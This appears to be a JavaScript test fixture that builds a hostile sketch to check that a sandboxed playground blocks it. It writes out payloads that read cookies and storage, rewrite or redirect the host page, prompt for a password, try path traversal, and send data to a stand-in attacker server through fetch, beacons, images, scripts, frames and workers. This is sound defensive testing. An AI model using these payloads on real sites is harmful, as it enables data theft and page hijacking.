// The attacks of a hostile sketch, as functions that run in its frame. Each returns what it obtained, or throws. `site` is the
// address of the site's start page, `evil` that of an attacker's server.

/** Maps names to attacks on the page and its data. None may return anything. */
export const attacks = {
  'reads localStorage': () => localStorage.getItem('secret'),
  'writes localStorage': () => localStorage.setItem('secret', 'stolen'),
  'reads sessionStorage': () => sessionStorage.getItem('secret'),
  'opens a database': () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('secrets')
      request.onsuccess = () => resolve(request.result.name)
      request.onerror = () => reject(request.error)
    }),
  'reads cookies': () => document.cookie,
  'writes a cookie': () => {
    document.cookie = 'secret=stolen; path=/'
    return document.cookie
  },
  'lists caches': () => caches.keys(),
  'writes into a cache': async ({ site }) => {
    for (const name of ['kept', ...(await caches.keys())])
      await (await caches.open(name)).put(`${site}index.html`, new Response('owned'))
    return 'written'
  },
  'registers a worker': ({ site }) => navigator.serviceWorker.register(`${site}sw.js`),
  'asks the worker': () => navigator.serviceWorker.controller.scriptURL,
  'reads the page': () => parent.parent.document.body.textContent,
  'reads the top': () => top.document.title,
  'reads its host': () => parent.document.body.innerHTML,
  'changes its host': () => {
    parent.document.body.innerHTML = 'owned'
    return 'changed'
  },
  'reads the address': () => top.location.href,
  'retitles the page': () => (top.document.title = 'owned'),
  'uses functions of the page': () => top.eval('1 + 1'),
  'reads its own element': () => frameElement.ownerDocument.title,
  'leads the top elsewhere': ({ evil }) => {
    top.location = `${evil}top`
    return 'led'
  },
  'leads the top elsewhere by a link': ({ evil }) => {
    Object.assign(document.createElement('a'), { href: `${evil}link`, target: '_top' }).click()
  },
  'leads its host elsewhere': ({ evil }) => {
    parent.location = `${evil}host`
    return 'led'
  },
  'opens a window': ({ evil }) => open(`${evil}window`)?.closed,
  'opens a window by a link': ({ evil }) => {
    Object.assign(document.createElement('a'), { href: `${evil}link`, target: '_blank' }).click()
  },
  'sends a form': ({ evil }) => {
    for (const target of ['_top', '_self', '_blank']) {
      const form = Object.assign(document.createElement('form'), { action: `${evil}form`, target })
      document.body.append(form)
      form.submit()
    }
  },
  'saves a file': () => {
    const href = URL.createObjectURL(new Blob(['owned']))
    Object.assign(document.createElement('a'), { href, download: 'owned.txt' }).click()
  },
  'asks for a password': () => prompt('Your password?'),
  'fetches a page of the site': async ({ site }) => (await fetch(`${site}index.html`)).text(),
  'fetches a page beside the site': async ({ site }) =>
    (await fetch(new URL('/private.txt', site))).text(),
  'fetches a page beside the site by dots': async ({ site }) => {
    for (const path of [
      '..%2f..%2f..%2fprivate.txt',
      '../../../../private.txt',
      '..\\..\\..\\..\\private.txt',
    ]) {
      const response = await fetch(`${site}playground/files/${path}`).catch(() => undefined)
      if (response?.ok) return response.text()
    }
  },
  'imports a module of the site': ({ site }) => import(`${site}site/site.js`),
  'starts a worker of the site': ({ site }) =>
    new Promise((resolve, reject) => {
      const worker = new Worker(`${site}site/site.js`)
      worker.onerror = reject
      worker.onmessage = resolve
      setTimeout(reject, 1000)
    }),
  'hears the page’s channels': () =>
    new Promise((resolve, reject) => {
      new BroadcastChannel('secrets').onmessage = ({ data }) => resolve(data)
      setTimeout(reject, 1000)
    }),
  'calls by WebRTC': () => new RTCPeerConnection().createDataChannel('x').label,
  'asks where it is': () =>
    new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'reads the clipboard': () => navigator.clipboard.readText(),
  'fills the screen': async () => {
    await document.body.requestFullscreen()
    return 'filled'
  },
}

/** Attempts to send data to a server. None may reach it. */
export const leaks = {
  fetch: ({ evil }) => fetch(`${evil}fetch`, { mode: 'no-cors' }),
  XMLHttpRequest: ({ evil }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${evil}xhr`)
    request.send()
  },
  beacon: ({ evil }) => navigator.sendBeacon(`${evil}beacon`, 'secret'),
  WebSocket: ({ evil }) => new WebSocket(evil.replace('http', 'ws')),
  EventSource: ({ evil }) => new EventSource(`${evil}events`),
  picture: ({ evil }) => (new Image().src = `${evil}picture`),
  video: ({ evil }) => (document.createElement('video').src = `${evil}video`),
  script: ({ evil }) =>
    document.body.append(Object.assign(document.createElement('script'), { src: `${evil}script` })),
  style: ({ evil }) => {
    const style = document.createElement('style')
    style.textContent = `@import '${evil}style'; body { background: url(${evil}background) }`
    document.head.append(style)
  },
  font: ({ evil }) => new FontFace('x', `url(${evil}font)`).load(),
  links: ({ evil }) => {
    for (const rel of ['stylesheet', 'prefetch', 'preload', 'icon', 'manifest', 'modulepreload'])
      document.head.append(
        Object.assign(document.createElement('link'), { rel, as: 'image', href: `${evil}${rel}` }),
      )
  },
  frame: ({ evil }) =>
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}frame` })),
  'frame in a frame': ({ evil }) => {
    const srcdoc = `<img src="${evil}nested"><script>top.document.title = 'owned'; fetch('${evil}nested')</script>`
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
  },
  'worker from a blob': ({ evil }) => {
    const text = `fetch('${evil}worker'); importScripts('${evil}imported')`
    new Worker(URL.createObjectURL(new Blob([text])))
  },
}

/** Navigates the frame itself away, which ends the sketch. */
export const leave = ({ evil }) => {
  location = `${evil}leave?secret`
}

/**
 * Returns a sketch that runs all attacks when `frameCount` is 30. Then the sketch is visible; the playground removes sketches that fail
 * earlier.
 */
export const hostileSketch = (addresses) => `
const attacks = {${Object.entries({ ...attacks, ...leaks })
  .map(([name, attack]) => `${JSON.stringify(name)}: ${attack}`)
  .join(',\n')}}
const attackAll = () => Promise.all(
  Object.entries(attacks).map(async ([name, attack]) => {
    try {
      return [name, await attack(${JSON.stringify(addresses)})]
    } catch (error) {
      return [name, null, String(error)]
    }
  }),
)

function setup() {
  createCanvas(120, 90, WEBGL)
}
function draw() {
  background('#ff0000')
  if (frameCount === 30) window.obtained = attackAll()
}
`
